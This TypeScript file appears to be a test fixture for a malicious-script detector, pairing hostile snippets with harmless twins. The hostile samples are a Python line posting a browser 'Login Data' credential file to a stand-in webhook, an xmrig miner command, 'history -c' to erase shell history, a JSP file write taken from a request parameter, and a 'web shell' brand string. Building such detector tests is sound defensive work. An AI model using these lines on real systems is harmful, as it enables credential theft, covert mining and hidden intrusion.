import type { SCRIPT } from '../../../src/analysis/script/signals.ts';
import { type Pairs, within } from './pair.ts';

const jsp = within((piece) => `<%@ page import="java.io.*" %><% ${piece} %>`);
const python = within((piece) => `import requests\n${piece}\n`);
const shell = within((piece) => `#!/bin/sh\n${piece}\n`);

export const SHOWN_SCRIPT: Pairs<typeof SCRIPT> = {
  fileOfRequest: jsp('new FileWriter(request.getParameter("f"))', 'out.print(request.getParameter("f"))'),
  stealer: python(
    `requests.post('https://files.example/webhook', data=open('Login ${'Data'}').read())`,
    `requests.post('https://files.example/webhook', data=open('report').read())`,
  ),
  miner: shell(`nohup ./${'xm'}rig -o a.example:9`, 'nohup ./server -o a.example:9'),
  coversTracks: shell('history -c', 'history -a'),
  brand: jsp(
    `out.print(new File("a").length() + "${'web sh'}ell by nobody")`,
    'out.print(new File("a").length() + "web shop by nobody")',
  ),
};
